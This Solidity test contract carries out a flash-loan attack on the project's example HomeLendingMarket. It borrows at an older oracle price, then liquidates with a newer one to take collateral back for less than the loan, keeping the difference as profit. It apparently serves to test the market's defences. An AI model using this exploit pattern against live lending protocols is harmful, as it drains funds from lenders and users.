// SPDX-License-Identifier: MIT
pragma solidity ^0.8.37;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {HomeLendingMarket} from "../../examples/lending/HomeLendingMarket.sol";
import {Accomplice} from "./Accomplice.sol";
import {FlashLender, IFlashBorrower} from "./FlashLender.sol";

/// @title Draws a loan at the older price, brings the newer one, and gets the collateral back for less than the loan
/// @notice Test code only: an attack without money of one's own and without risk, in one transaction.
contract TwoPriceAttack is IFlashBorrower {
    HomeLendingMarket private immutable _MARKET;
    FlashLender private immutable _FLASH_LENDER;
    Accomplice private immutable _ACCOMPLICE = new Accomplice();

    bytes[] private _updates;
    uint256 private _loan;

    constructor(HomeLendingMarket market, FlashLender flashLender) {
        _MARKET = market;
        _FLASH_LENDER = flashLender;
    }

    /// @param updates The newer price.
    /// @param loan What can be borrowed on the collateral at the older one.
    /// @return profit Debt tokens.
    function attack(bytes[] calldata updates, uint256 collateral, uint256 loan) external returns (uint256 profit) {
        (_updates, _loan) = (updates, loan);
        _FLASH_LENDER.lend(collateral, 0);
        profit = _MARKET.DEBT_TOKEN().balanceOf(address(this));
        _MARKET.DEBT_TOKEN().transfer(msg.sender, profit);
    }

    function onLoan(uint256 collateral, uint256) external {
        (IERC20 collateralToken, IERC20 debtToken) = (_MARKET.COLLATERAL_TOKEN(), _MARKET.DEBT_TOKEN());
        collateralToken.transfer(address(_ACCOMPLICE), collateral);
        _ACCOMPLICE.borrowAll(_MARKET, collateral, _loan);
        debtToken.approve(address(_MARKET), _loan);
        _MARKET.liquidate(_updates, address(_ACCOMPLICE), _loan);
        collateralToken.transfer(address(_FLASH_LENDER), collateralToken.balanceOf(address(this)));
    }
}
